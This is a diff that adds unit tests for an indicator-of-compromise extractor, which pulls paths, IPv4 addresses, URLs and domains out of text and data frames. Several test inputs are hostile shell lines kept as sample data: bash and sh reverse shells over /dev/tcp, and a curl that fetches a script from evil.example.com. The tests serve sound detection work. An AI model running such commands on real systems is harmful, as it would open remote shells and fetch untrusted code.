@@ -140,6 +140,33 @@ def test_extract_from_text_paths() -> None:
     assert _values(text, "path") == ["/bin/bash", "/etc/shadow", "/home/user", "/tmp"]
 
 
+def test_extract_from_text_ip_in_path_is_reported_with_the_path() -> None:
+    text = "bash -i >& /dev/tcp/45.95.147.236/4444 0>&1"
+    assert extract_from_text(text) == [("path", "/dev/tcp/45.95.147.236/4444"), ("ipv4", "45.95.147.236")]
+
+
+def test_extract_from_text_five_part_path_component_is_not_an_ip() -> None:
+    assert extract_from_text("/tmp/1.2.3.4.5/x") == [("path", "/tmp/1.2.3.4.5/x")]
+
+
+def test_extract_from_text_ip_in_url_path() -> None:
+    text = "curl http://evil.example.com/r/203.0.113.7/x.sh?via=9.9.9.9"
+    assert extract_from_text(text) == [
+        ("url", "http://evil.example.com/r/203.0.113.7/x.sh?via=9.9.9.9"),
+        ("dns", "evil.example.com"),
+        ("ipv4", "203.0.113.7"),  # the query is not a path: 9.9.9.9 is not taken
+    ]
+
+
+def test_extract_iocs_ip_in_path_keeps_row_column_and_scope() -> None:
+    frame = pd.DataFrame({"cmd": ["x", "sh -c 'exec 3<>/dev/tcp/10.1.2.3/80'"]}, index=[7, 8])
+    out = extract_iocs(frame, ["cmd"])
+    assert out[["IocType", "Value", "IpScope", "Row", "Column"]].astype(object).values.tolist() == [
+        ["path", "/dev/tcp/10.1.2.3/80", pd.NA, 8, "cmd"],
+        ["ipv4", "10.1.2.3", "private", 8, "cmd"],
+    ]
+
+
 # --- frames ----------------------------------------------------------------------
 def test_extract_iocs_rows_columns_and_order() -> None:
     frame = pd.DataFrame(
